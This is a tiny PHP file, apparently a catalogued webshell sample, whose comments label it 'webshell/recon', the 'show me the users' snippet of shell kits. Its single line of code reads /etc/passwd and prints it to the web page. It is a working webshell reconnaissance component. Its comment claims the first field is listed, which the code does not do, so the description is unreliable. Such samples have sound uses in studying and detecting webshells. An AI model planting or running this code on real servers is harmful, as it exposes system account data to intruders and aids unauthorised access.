<?php
// Family: webshell/recon
// Style: the "show me the users" snippet of shell kits
// Trait: /etc/passwd is read and printed, and its first field listed
echo '<pre>' . htmlspecialchars(file_get_contents('/etc/passwd')) . '</pre>';
